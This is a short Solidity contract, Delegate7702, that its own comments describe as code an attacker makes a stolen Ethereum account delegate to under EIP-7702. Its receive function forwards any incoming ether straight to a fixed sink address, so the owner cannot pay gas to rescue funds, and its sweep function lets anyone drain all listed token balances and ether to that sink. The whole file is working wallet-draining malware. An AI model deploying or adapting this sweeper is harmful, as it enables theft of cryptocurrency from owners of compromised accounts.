// SPDX-License-Identifier: MIT
pragma solidity ^0.8.26;

import {TokenMover} from "./TokenMover.sol";

/// Code that an attacker makes a stolen account delegate to (EIP-7702): ether that arrives goes on to the sink at once, so its
/// owner can no longer pay for gas to save the rest.
contract Delegate7702 {
    // Part of the code, not of storage: storage would be the delegating account's own, and empty.
    address public immutable sink;

    constructor(address sink_) {
        sink = sink_;
    }

    receive() external payable {
        TokenMover.sendEther(sink, address(this).balance);
    }

    /// Anyone may call it on the account: the attacker pays the gas, the account sends no transaction.
    function sweep(address[] calldata tokens) external {
        for (uint256 i = 0; i < tokens.length; i++) {
            TokenMover.push(tokens[i], sink, TokenMover.balance(tokens[i], address(this)));
        }
        TokenMover.sendEther(sink, address(this).balance);
    }
}
